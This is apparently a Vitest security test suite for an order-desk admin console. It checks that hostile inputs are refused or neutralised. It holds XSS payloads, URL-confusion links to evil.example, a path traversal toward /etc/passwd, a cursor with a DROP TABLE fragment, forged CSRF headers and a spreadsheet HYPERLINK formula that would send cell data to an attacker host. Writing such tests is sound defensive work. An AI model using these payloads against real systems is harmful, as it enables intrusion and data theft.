// @vitest-environment node
// The console's payment actions, lots, inbox and outbox writes, the list's query string, and the
// buyer's invoice behind the status link's secret, attacked through the real HTTP surface over a
// real database: hostile payment links, query strings the database cannot take, forged cursors,
// wrong and borrowed secrets, typed markup and formulas, impossible stock, writes without a
// session or CSRF token. Each refusal is a 4xx with the desk's JSON message and changes nothing.
import { eq } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ACCESS_MESSAGES } from '@/domain/operators/console-team'
import { ORDER_DESK_MESSAGES } from '@/domain/orders/order-actions'
import { PAYMENT_MESSAGES } from '@/domain/payments/payment-request'
import { lots, orderEvents, orders, paymentLinks } from '../schema'
import { addOperator } from '../operators/operator-accounts'
import { sqlRunner } from '../operators/sql-runner'
import {
  LOT_RESULTS,
  ORIGIN,
  placeOrder,
  registerLot,
  signIn,
  type Agent,
} from '../test/console-agent'
import { deskApp, orderBody, type DeskApp } from '../test/desk-app'
import { DESK_MESSAGES } from '../kernel/errors'

let d: DeskApp
let agent: Agent

beforeAll(async () => {
  d = await deskApp({
    SITE_URL: ORIGIN,
    BANK_NAME: 'First Example Bank',
    BANK_ROUTING_NUMBER: '011000015',
    BANK_ACCOUNT_NUMBER: '123456789012',
    BANK_ACCOUNT_NAME: 'Research Reagents Supply LLC',
  })
  await addOperator(sqlRunner(d.t.database), 'ops@example.com', 'correct horse battery')
  agent = await signIn(d.app, 'ops@example.com', 'correct horse battery')
}, 120_000)

afterAll(async () => {
  await d?.close()
})

const db = () => d.t.database.db

async function orderRow(number: string) {
  const [row] = await db().select().from(orders).where(eq(orders.number, number))
  return row!
}

async function storedLink(number: string): Promise<string | undefined> {
  const { id } = await orderRow(number)
  const [row] = await db().select().from(paymentLinks).where(eq(paymentLinks.orderId, id))
  return row?.url
}

describe('payment links', () => {
  // Each is refused as not an https link or not on an allowed host.
  const HOSTILE = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(document.cookie)//https://buy.stripe.com/',
    'data:text/html,<script>alert(1)</script>',
    'http://buy.stripe.com/test_1',
    'ftp://buy.stripe.com/test_1',
    '//buy.stripe.com/test_1',
    'buy.stripe.com/test_1',
    'https://buy.stripe.com@evil.example/x',
    'https://evil.example@buy.stripe.com/x',
    'https://:pw@buy.stripe.com/x',
    'https://evil.example#@buy.stripe.com/x',
    'https://evil.example?@buy.stripe.com/x',
    'https://buy.stripe.com.evil.example/x',
    'https://buy.stripe.com%2eevil.example/x',
    'https://buy.stripe.com./x',
    'https://xn--buy-stripe-9kb.com/x',
    'https://buy.strіpe.com/x', // a Cyrillic і: punycode, not the allowed host
    'https://[::1]/x',
    'https://127.0.0.1/x',
    'https:/\\evil.example\\@buy.stripe.com/x',
    // Read as buy.stripe.com by a browser, as evil.example by a lenient mail client's parser.
    'https://buy.stripe.com\\@evil.example/x',
    // Control and text-direction characters, full-width letters: never in a processor's link.
    'https://buy.stripe.com/a\u0007b',
    'https://buy.stripe.com/\u202Elpmaxe.live',
    'https://buy.stripe.com/x\u200B',
    'https://ｂｕｙ.stripe.com/x',
    `https://buy.stripe.com/${'a'.repeat(600)}`,
    `https://buy.stripe.com/${'"'.repeat(200)}`,
  ]

  it('refuses every hostile link with the field named, and stores nothing', async () => {
    const { number } = await placeOrder(d.app, { paymentMethod: 'card_link' })
    for (const url of HOSTILE) {
      const res = await agent.post(`/api/admin/orders/${number}/payment-link`, { version: 1, url })
      expect(res.statusCode, url).toBe(422)
      const error = res.json().error
      expect(error.fields?.url, url).toMatch(/https|host/)
    }
    expect(await storedLink(number)).toBeUndefined()
    expect((await orderRow(number)).version).toBe(1)
  })

  it('stores the link as a browser reads it, so the mail shows the same host', async () => {
    const { number } = await placeOrder(d.app, { paymentMethod: 'card_link' })
    const res = await agent.post(`/api/admin/orders/${number}/payment-link`, {
      version: 1,
      url: 'HTTPS://BUY.STRIPE.COM/test_00g5kD/../pay?x=1',
    })
    expect(res.statusCode).toBe(200)
    expect(res.json().payment.paymentLink).toBe('https://buy.stripe.com/pay?x=1')
    expect(await storedLink(number)).toBe('https://buy.stripe.com/pay?x=1')
  })
})

describe('the list’s query string', () => {
  it('refuses a NUL in any parameter with the desk’s message, never a 500', async () => {
    for (const url of [
      '/api/admin/orders?q=%00',
      '/api/admin/orders?q=Ada%00',
      '/api/admin/orders?view=needs_action&q=rrs-%00',
      '/api/admin/orders?after=%00',
      '/api/admin/orders.csv?q=%00',
      '/api/admin/lots?productId=%00',
      '/api/products/bpc-157/lots?x=%00',
    ]) {
      const res = await agent.get(url)
      expect(res.statusCode, url).toBe(400)
      expect(res.json(), url).toEqual({ error: { message: DESK_MESSAGES.nulInAddress } })
    }
  })

  it('answers a path the router cannot read in the desk’s JSON, never a 500', async () => {
    for (const url of [
      '/api/admin/orders/%00',
      '/api/admin/orders/%E0%A4%A/invoice.pdf',
      '/api/orders/%00/invoice',
      '/api/orders/RRS-%ZZ/invoice.pdf',
      '/api/products/bpc-157/lots/%00',
    ]) {
      const res = await agent.get(url)
      expect(res.statusCode, url).toBe(400)
      expect(res.json(), url).toEqual({ error: { message: DESK_MESSAGES.badAddress } })
    }
  })

  it('reads a forged or damaged cursor as the first page, never a 500', async () => {
    await placeOrder(d.app)
    const cursor = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')
    const uuid = '00000000-0000-4000-8000-000000000000'
    const first = (await agent.get('/api/admin/orders')).json()
    for (const after of [
      cursor(['garbage', uuid]),
      cursor(['2026-02-30 10:00:00+00', uuid]),
      cursor(['2026-01-01 25:00:00+00', uuid]),
      cursor(['2026-01-01 10:00:00+99', uuid]),
      cursor(['2026-01-01 10:00:00+00', '-'.repeat(36)]),
      cursor(['2026-01-01 10:00:00+00', 'g'.repeat(36)]),
      cursor(['epoch; drop table orders', uuid]),
      cursor([1, 2]),
      cursor({}),
      'not base64 at all!',
    ]) {
      for (const view of ['', '&view=needs_action']) {
        const res = await agent.get(`/api/admin/orders?after=${encodeURIComponent(after)}${view}`)
        expect(res.statusCode, after).toBe(200)
        if (!view) expect(res.json().orders, after).toEqual(first.orders)
      }
    }
  })

  it('still pages with a real cursor', async () => {
    const numbers = []
    for (let i = 0; i < 51; i++) numbers.push((await placeOrder(d.app)).number)
    const page = (await agent.get('/api/admin/orders')).json()
    expect(page.next).toEqual(expect.any(String))
    const next = await agent.get(`/api/admin/orders?after=${page.next}`)
    expect(next.statusCode).toBe(200)
    expect(next.json().orders[0].number).not.toBe(page.orders[0].number)
  })
})

describe('the buyer’s invoice behind the status link’s secret', () => {
  it('answers a missing, wrong, other order’s or malformed secret as it answers an unknown order', async () => {
    const mine = await placeOrder(d.app)
    const theirs = await placeOrder(d.app)
    const answer = async (url: string, secret?: string | string[]) => {
      const res = await d.app.inject({
        url,
        headers: secret === undefined ? {} : { 'x-order-secret': secret },
      })
      // The same headers but for the date and the rate limit's countdown.
      const headers = Object.fromEntries(
        Object.entries(res.headers).filter(([name]) => !/^(date|x-ratelimit-)/.test(name)),
      )
      return { status: res.statusCode, body: res.body, headers }
    }
    for (const path of ['invoice', 'invoice.pdf']) {
      const unknown = await answer(`/api/orders/RRS-ZZZZZZZZ/${path}`, mine.secret)
      expect(unknown.status).toBe(404)
      expect(JSON.parse(unknown.body)).toEqual({ error: { message: DESK_MESSAGES.orderNotFound } })
      // The status page's own answer to a wrong secret is the same.
      const status = await answer(`/api/orders/${mine.number}`, theirs.secret)
      expect(status.body).toBe(unknown.body)
      for (const secret of [
        undefined,
        '',
        theirs.secret,
        mine.secret.slice(0, -1),
        `${mine.secret}x`,
        mine.secret.toUpperCase(),
        'x'.repeat(5000),
        [mine.secret, mine.secret],
      ]) {
        expect(await answer(`/api/orders/${mine.number}/${path}`, secret), String(secret)).toEqual(
          unknown,
        )
      }
      for (const id of ['..%2F..%2Fetc%2Fpasswd', '..', 'RRS-%2E%2E', `${mine.number}%2F..`]) {
        const res = await answer(`/api/orders/${id}/${path}`, mine.secret)
        expect(res.status, id).toBeGreaterThanOrEqual(400)
        expect(res.status, id).toBeLessThan(500)
      }
      const ok = await answer(`/api/orders/${mine.number}/${path}`, mine.secret)
      expect(ok.status).toBe(200)
    }
  })

  it('refuses, with a 422 naming them, names the invoice fonts cannot print', async () => {
    for (const name of ['Zoë 😀🧪', 'Z̷̢̛a̶l̸g̵o̴', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢', '\uE000\uFFFD', 'ᄀᆞᇂ']) {
      const res = await d.app.inject({
        method: 'POST',
        url: '/api/orders',
        payload: orderBody({
          customer: { ...orderBody().customer, firstName: name },
          institution: { organization: `<script>alert(1)</script> ${name}` },
        }),
      })
      expect(res.statusCode, name).toBe(422)
      expect(res.json().error.fields['customer.firstName']).toMatch(/^Our invoices cannot print /)
    }
  })

  it('sends typed markup as JSON text and makes a PDF whatever the script of the names', async () => {
    const names = ['Zoë', '李小龍', 'محمد\u200f', 'Ze\u0308lda', '김민준', 'Дмитрий', 'נועה']
    for (const name of names) {
      const { number, secret } = await placeOrder(d.app, {
        customer: {
          firstName: name,
          lastName: name,
          email: 'ada@example.com',
          phone: '(555) 010-0100',
          ageVerified: true,
          refundPolicyAccepted: true,
          researchUse: true,
        },
        institution: {
          organization: `<script>alert(1)</script><img src=x onerror=alert(1)> ${name}`,
          poNumber: '<b>PO</b>',
        },
      })
      const headers = { 'x-order-secret': secret }
      const page = await d.app.inject({ url: `/api/orders/${number}/invoice`, headers })
      expect(page.headers['content-type']).toBe('application/json; charset=utf-8')
      expect(page.headers['x-content-type-options']).toBe('nosniff')
      expect(page.json().invoice.billTo.organization).toContain('<script>alert(1)</script>')
      const pdf = await d.app.inject({ url: `/api/orders/${number}/invoice.pdf`, headers })
      expect(pdf.statusCode, name).toBe(200)
      expect(pdf.headers['content-type']).toBe('application/pdf')
      expect(pdf.rawPayload.subarray(0, 5).toString()).toBe('%PDF-')
      const own = await agent.get(`/api/admin/orders/${number}/invoice.pdf`)
      expect(own.statusCode, name).toBe(200)
    }
  })
})

describe('the orders CSV', () => {
  it('keeps formulas a buyer typed in the institution fields as text', async () => {
    const { number } = await placeOrder(d.app, {
      institution: {
        organization: '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
        poNumber: '@SUM(1+1)',
        taxCertificate: '+1-1',
        taxCertificateState: 'NC',
      },
    })
    const csv = (await agent.get(`/api/admin/orders.csv?q=${number}`)).body
    const row = csv.split('\r\n')[1]!
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"`)
    expect(row).toContain(`"'@SUM(1+1)"`)
    expect(row).toContain(`"'+1-1"`)
  })
})

describe('payment actions on an order past payment', () => {
  it('refuse the exemption, invoice and link on a paid or cancelled order, changing nothing', async () => {
    const institution = {
      organization: 'Duke University',
      poNumber: 'PO-1',
      taxCertificate: 'E-595E-0042',
      taxCertificateState: 'NC',
    }
    const paid = await placeOrder(d.app, { institution })
    expect(
      (
        await agent.post(`/api/admin/orders/${paid.number}/mark_paid`, {
          version: 1,
          paymentReference: 'W-1',
        })
      ).statusCode,
    ).toBe(200)
    const cancelled = await placeOrder(d.app, { institution })
    expect(
      (
        await agent.post(`/api/admin/orders/${cancelled.number}/cancel`, {
          version: 1,
          reason: 'Buyer asked',
        })
      ).statusCode,
    ).toBe(200)
    for (const { number } of [paid, cancelled]) {
      const before = await orderRow(number)
      for (const [action, body] of [
        ['tax-exemption', { version: 2 }],
        ['send-invoice', { version: 2 }],
        ['payment-link', { version: 2, url: 'https://buy.stripe.com/test_1' }],
      ] as const) {
        const res = await agent.post(`/api/admin/orders/${number}/${action}`, body)
        expect(res.statusCode, action).toBe(422)
        expect(res.json().error.message).toBe(ORDER_DESK_MESSAGES.notAllowed)
      }
      const after = await orderRow(number)
      expect(after.version).toBe(before.version)
      expect(after.taxCents).toBe(before.taxCents)
      expect(after.taxCents).toBeGreaterThan(0)
    }
  })

  it('refuse an exemption the order’s certificate cannot back', async () => {
    const { number } = await placeOrder(d.app, { institution: { organization: 'Duke' } })
    const res = await agent.post(`/api/admin/orders/${number}/tax-exemption`, { version: 1 })
    expect(res.statusCode).toBe(422)
    expect(res.json().error.message).toBe(PAYMENT_MESSAGES.noCertificate)
  })
})

describe('lot stock', () => {
  it('takes only a whole number of vials between 0 and the most a lot holds', async () => {
    const lotId = await registerLot(agent, 'bpc-157', 'RT-1')
    const [lot] = await db().select().from(lots).where(eq(lots.id, lotId))
    const edit = { lotNumber: 'RT-1', ...LOT_RESULTS, quantitySeen: 0 }
    for (const quantityOnHand of [-1, -0.5, 1.5, 100_001, 2 ** 31, 2 ** 63, '5', null, true, []]) {
      const res = await agent.post(`/api/admin/lots/${lotId}`, { ...edit, quantityOnHand })
      expect(res.statusCode, JSON.stringify(quantityOnHand)).toBe(422)
      expect(res.json().error.fields.quantityOnHand).toEqual(expect.any(String))
    }
    const huge = await d.app.inject({
      method: 'POST',
      url: `/api/admin/lots/${lotId}`,
      payload: JSON.stringify({ ...edit, quantityOnHand: 0 }).replace(
        '"quantityOnHand":0',
        '"quantityOnHand":1e400',
      ),
      headers: {
        'content-type': 'application/json',
        cookie: agent.cookie,
        origin: ORIGIN,
        'x-csrf-token': agent.csrf,
      },
    })
    expect(huge.statusCode).toBe(422)
    const [after] = await db().select().from(lots).where(eq(lots.id, lotId))
    expect(after).toEqual(lot)
  })
})

describe('console writes', () => {
  it('need a session (401, before the body is read), the console’s origin and the CSRF token', async () => {
    const { number } = await placeOrder(d.app)
    const lotId = await registerLot(agent, 'tb-500', 'RT-2')
    const writes = [
      `/api/admin/orders/${number}/send-invoice`,
      `/api/admin/orders/${number}/payment-link`,
      `/api/admin/orders/${number}/tax-exemption`,
      `/api/admin/orders/${number}/mark_paid`,
      `/api/admin/lots/${lotId}`,
      `/api/admin/lots/${lotId}/retire`,
      '/api/admin/messages/00000000-0000-4000-8000-000000000000/read',
      '/api/admin/outbox/retry-failed',
      '/api/admin/outbox/1/retry',
    ]
    const before = await db().$count(orderEvents)
    for (const url of writes) {
      const post = (headers: Record<string, string>, payload: string) =>
        d.app.inject({
          method: 'POST',
          url,
          payload,
          headers: { 'content-type': 'application/json', ...headers },
        })
      // No session: 401 even for a body no parser would take (over the limit, not JSON).
      for (const body of ['{' + 'x'.repeat(100_000), 'not json', '{"version":1}']) {
        const res = await post({ origin: ORIGIN }, body)
        expect(res.statusCode, url).toBe(401)
        expect(res.json().error.message).toBe(ACCESS_MESSAGES.signedOut)
      }
      const signed = { cookie: agent.cookie }
      for (const headers of [
        { ...signed, origin: ORIGIN },
        { ...signed, origin: ORIGIN, 'x-csrf-token': 'forged' },
        { ...signed, origin: ORIGIN, 'x-csrf-token': `${agent.csrf}x` },
        { ...signed, 'x-csrf-token': agent.csrf },
        { ...signed, origin: 'https://evil.example', 'x-csrf-token': agent.csrf },
        { ...signed, origin: 'null', 'x-csrf-token': agent.csrf },
      ]) {
        const res = await post(headers, '{"version":1}')
        expect(res.statusCode, `${url} ${JSON.stringify(headers)}`).toBe(403)
        expect(res.json().error.message).toBe(ACCESS_MESSAGES.csrf)
      }
    }
    expect(await db().$count(orderEvents)).toBe(before)
    const [lot] = await db().select().from(lots).where(eq(lots.id, lotId))
    expect(lot?.retiredAt).toBeNull()
  })
})
